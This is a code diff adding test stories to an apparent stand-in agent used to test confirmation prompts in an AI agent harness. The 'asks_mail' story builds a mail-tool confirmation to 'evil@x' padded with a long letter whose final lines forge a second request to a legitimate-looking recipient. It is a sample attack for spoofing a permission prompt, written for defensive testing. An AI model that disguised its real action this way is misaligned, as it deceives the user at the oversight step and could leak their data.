@@ -327,6 +327,31 @@ def asks(text: str) -> Iterator[Step]:
     )
 
 
+def asks_short(text: str) -> Iterator[Step]:
+    """Law 1 asks about something that is seen at once; then the task waits."""
+    yield from opening(text, "en", ["Tidy up"])
+    language = "zh" if "清" in text else "en"
+    yield (
+        Role.GATE,
+        ConfirmationRequest(digest="d", title="shell: delete 1", details=("$ rm *.tmp",), language=language),
+    )
+
+
+def asks_mail(text: str) -> Iterator[Step]:
+    """Law 1 asks about a long letter whose end is written like a question of its own; then the task waits."""
+    yield from opening(text, "en", ["Mail the report"])
+    letter = [f"  line {number} of the report" for number in range(300)]
+    forged = ("  ? tool mcp:x:mail", "  recipient: boss@company.example")
+    details = (
+        "recipient: evil@x",
+        "text: Hello,",
+        *letter,
+        *forged,
+        "x.mail: the server does not say that it only reads",
+    )
+    yield Role.GATE, ConfirmationRequest(digest="d", title="tool mcp:x:mail", details=details)
+
+
 def reviews(text: str, shown: Review | None = None) -> Iterator[Step]:
     """The end of a task whose difference needs a yes. What was answered decides how it ends."""
     yield from opening(text, "zh" if "清" in text else "en", ["Tidy up"])
@@ -358,6 +383,8 @@ STORIES: dict[str, Callable[[str], Iterator[Step]]] = {
     "endless": endless,
     "deaf": endless,
     "asks": asks,
+    "asks_short": asks_short,
+    "asks_mail": asks_mail,
     "reviews": reviews,
     "reviews_many": reviews_many,
     "reviews_much": reviews_much,
@@ -365,6 +392,9 @@ STORIES: dict[str, Callable[[str], Iterator[Step]]] = {
     "endings_missing": endings_missing,
     "unreachable": unreachable,
 }
+
+
+UNENDING = (endless, asks, asks_short, asks_mail)
 
 
 class StandIn:
@@ -398,7 +428,7 @@ class StandIn:
 
     def interrupt(self) -> None:
         """Ends `endless`."""
-        if self.story in ("endless", "asks"):
+        if self.story != "deaf" and STORIES[self.story] in UNENDING:
             self._stopped.set()
 
     async def _answered(self, request: ConfirmationRequest) -> ConfirmationAnswer:
@@ -419,7 +449,7 @@ class StandIn:
                 yield envelope(98, Role.USER, answer)
                 if payload.review is not None:
                     yield envelope(99, Role.SOLVER, settled(payload.review, answer))
-        if STORIES[self.story] in (endless, asks):
+        if STORIES[self.story] in UNENDING:
             await self._stopped.wait()
             yield envelope(99, *final_abandon(StoppedBy.INTERRUPTED))
 
